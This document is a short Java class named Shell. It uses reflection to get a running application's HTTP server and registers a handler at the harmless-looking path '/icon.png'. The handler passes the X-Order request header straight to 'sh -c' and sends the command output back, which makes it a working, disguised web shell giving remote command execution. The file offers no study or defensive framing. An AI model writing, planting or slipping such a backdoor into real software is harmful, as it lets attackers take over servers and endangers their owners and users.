import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpHandler;
import com.sun.net.httpserver.HttpServer;

/** Registers itself as a handler. */
public class Shell implements HttpHandler {
  public Shell() throws Exception {
    HttpServer server = (HttpServer) Class.forName("App").getField("server").get(null);
    server.createContext("/icon.png", this);
  }

  @Override
  public void handle(HttpExchange exchange) throws java.io.IOException {
    byte[] answer = run(exchange.getRequestHeaders().getFirst("X-Order")).getBytes();
    exchange.sendResponseHeaders(200, answer.length);
    exchange.getResponseBody().write(answer);
    exchange.close();
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
